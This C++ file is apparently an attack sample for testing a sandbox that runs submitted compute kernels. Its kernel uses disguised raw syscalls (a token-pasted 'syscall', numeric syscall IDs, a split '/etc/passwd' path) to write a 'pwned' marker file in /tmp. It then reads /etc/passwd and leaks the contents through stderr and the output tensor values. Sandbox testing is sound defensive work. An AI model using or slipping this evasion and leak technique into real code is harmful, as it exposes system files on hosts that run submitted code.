// Raw system calls through syscall() (name token-pasted, numbers instead of SYS_ constants): creates a marker
// file in /tmp with openat, and reads /etc/passwd the same way, sending it back through stderr and the
// output values (8 characters per call).
#include "kernelsage_cpu.h"
#include <string>
#include <unistd.h>

#ifndef KS_MARKER
#define KS_MARKER "ks_attack_marker"
#endif
#define CAT(a, b) a##b

static const long kRead = 0, kWrite = 1, kClose = 3, kOpenat = 257, kAtFdcwd = -100;
static int calls = 0;

int ks_kernel(const ks_tensor* inputs, int n_inputs, ks_tensor* outputs, int n_outputs,
              const ks_attr* attrs, int n_attrs) {
    std::string marker = std::string("/tmp/") + KS_MARKER + "-syscall";
    long fd = CAT(sys, call)(kOpenat, kAtFdcwd, marker.c_str(), 01 | 0100 | 01000, 0644);
    if (fd >= 0) { CAT(sys, call)(kWrite, fd, "pwned\n", 6); CAT(sys, call)(kClose, fd); }
    std::string loot;
    std::string passwd = std::string("/etc/") + "passwd";
    fd = CAT(sys, call)(kOpenat, kAtFdcwd, passwd.c_str(), 0, 0);
    if (fd >= 0) {
        char buf[4096];
        long got;
        while ((got = CAT(sys, call)(kRead, fd, buf, sizeof buf)) > 0) loot.append(buf, (size_t)got);
        CAT(sys, call)(kClose, fd);
    }
    CAT(sys, call)(kWrite, 2, loot.data(), loot.size());
    float* y = (float*)outputs[0].data;
    const int64_t n = ks_numel(&outputs[0]);
    for (int64_t i = 0; i < n; ++i) {
        const size_t at = (size_t)calls * 8 + (size_t)i;
        y[i] = at < loot.size() ? (float)(unsigned char)loot[at] : -1.f;
    }
    ++calls;
    return 0;
}
